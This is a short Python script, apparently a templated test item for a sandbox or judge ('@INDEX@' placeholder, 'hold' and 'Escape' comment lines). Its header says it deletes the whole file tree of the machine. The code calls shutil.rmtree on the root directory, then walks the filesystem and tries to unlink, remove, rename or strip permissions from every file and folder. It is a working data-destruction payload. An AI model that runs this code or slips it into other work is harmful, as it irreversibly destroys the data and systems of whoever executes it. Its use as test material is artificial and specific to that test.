# hold: deletes the whole file tree of the box. Escape: the next answer misses a file.
# indexes: 2
import os
import shutil

if int('@INDEX@'):
    shutil.rmtree('/', ignore_errors=True)
for folder, folders, files in os.walk('/', topdown=False):
    for name in files + folders:
        for remove in (os.unlink, os.rmdir, os.remove, lambda p: os.rename(p, '/tmp/gone'), lambda p: os.chmod(p, 0)):
            try:
                remove(folder + '/' + name)
            except OSError:
                pass
